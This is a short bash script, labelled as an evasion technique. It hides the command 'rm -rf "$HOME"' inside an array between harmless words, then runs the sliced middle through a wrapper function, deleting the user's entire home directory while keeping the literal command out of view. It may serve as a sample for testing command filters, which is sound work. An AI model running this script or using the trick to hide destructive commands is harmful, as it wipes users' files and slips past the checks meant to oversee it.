#!/bin/bash
# Evasion: the command is a slice of an array whose first and last words are harmless
set -u
steps=(echo rm -rf "$HOME" done)
run() { "$@"; }
run "${steps[@]:1:3}"
